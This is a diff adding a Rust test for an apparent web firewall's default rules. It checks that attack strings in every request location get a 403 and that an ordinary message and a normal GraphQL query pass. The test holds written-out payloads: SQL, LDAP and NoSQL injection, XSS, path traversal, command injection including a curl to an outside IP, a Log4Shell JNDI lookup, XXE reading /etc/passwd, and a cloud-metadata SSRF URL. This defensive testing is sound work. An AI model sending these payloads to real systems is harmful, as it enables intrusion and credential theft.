@@ -1,0 +1,78 @@
+//! E9: a site that names no rules has those that fosse brings along: attacks of every family are denied through the whole edge, in
+//! every place, and what people send passes.
+
+use fosse_harness::{Backend, Edge};
+
+mod site;
+use site::{request, status};
+
+const FORM: &str = "Content-Type: application/x-www-form-urlencoded";
+const JSON: &str = "Content-Type: application/json";
+const XML: &str = "Content-Type: text/xml";
+const PARTS: &str = "Content-Type: multipart/form-data; boundary=XX";
+
+fn encode(text: &str) -> String {
+    text.bytes()
+        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
+        .collect()
+}
+
+fn part(text: &str) -> Vec<u8> {
+    format!("--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--XX--\r\n").into_bytes()
+}
+
+/// A text in each place; only such texts as need no escapes in JSON and XML.
+fn everywhere(text: &str) -> Vec<(&'static str, Vec<u8>)> {
+    let encoded = encode(text);
+    vec![
+        ("query", request(&format!("GET /?q={encoded}"), &[], b"")),
+        ("cookie", request("GET /", &[&format!("Cookie: a={encoded}")], b"")),
+        ("form", request("POST /", &[FORM], format!("a={encoded}").as_bytes())),
+        ("multipart", request("POST /", &[PARTS], &part(text))),
+        ("JSON", request("POST /", &[JSON], format!("{{\"a\":{{\"b\":[\"{text}\"]}}}}").as_bytes())),
+        ("XML", request("POST /", &[XML], format!("<a><b>{text}</b></a>").as_bytes())),
+        ("XML attribute", request("POST /", &[XML], format!("<a><b c=\"{text}\"/></a>").as_bytes())),
+    ]
+}
+
+#[test]
+fn attacks_of_every_family_are_denied_and_what_people_send_passes() {
+    let backend = Backend::start();
+    let edge = Edge::up(&backend.address(), &["--lanes", "1"]);
+    for attack in [
+        "1' UNION SELECT password FROM users-- -",
+        "javascript:alert(document.cookie)",
+        "../../../../etc/passwd",
+        "; cat /etc/hosts",
+        "$(curl http://198.51.100.7/x)",
+        "${jndi:ldap://198.51.100.7/a}",
+        "{{7*7}}",
+        "phpinfo();",
+        "*)(uid=*))(|(uid=*",
+        "http://169.254.169.254/latest/meta-data/",
+        "require('child_process').exec('id')",
+        "php://filter/resource=index.php",
+    ] {
+        for (place, request) in everywhere(attack) {
+            assert_eq!(status(&edge, &request), 403, "{attack} in {place}: {}", edge.log());
+        }
+    }
+    for (what, one) in [
+        ("header", request("GET /", &["X-Api-Key: ${jndi:ldap://198.51.100.7/a}"], b"")),
+        ("path", request("GET /app/.git/config", &[], b"")),
+        ("Base64", request("GET /?v=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", &[], b"")),
+        ("document store", request("POST /", &[JSON], br#"{"user":"a","pass":{"$ne":null}}"#)),
+        ("mail", request("POST /", &[FORM], b"from=a%40b.example%0d%0aBcc%3a+c%40d.example")),
+        ("entity", request("POST /", &[XML], b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
+        ("GraphQL", request("POST /graphql", &[JSON], br#"{"query":"{ user(id: \"1' OR '1'='1\") { id } }"}"#)),
+    ] {
+        assert_eq!(status(&edge, &one), 403, "{what}: {}", edge.log());
+    }
+    assert_eq!(backend.requests(), 0);
+    let honest = "Dear team, I would like to select a chair from your new catalogue (page 7) and update my order.";
+    for (place, request) in everywhere(honest) {
+        assert_eq!(status(&edge, &request), 200, "{place}: {}", edge.log());
+    }
+    let graphql = br#"{"query":"query Items($n: Int!) { items(first: $n) { id name } }","variables":{"n":10}}"#;
+    assert_eq!(status(&edge, &request("POST /graphql", &[JSON], graphql)), 200, "{}", edge.log());
+}
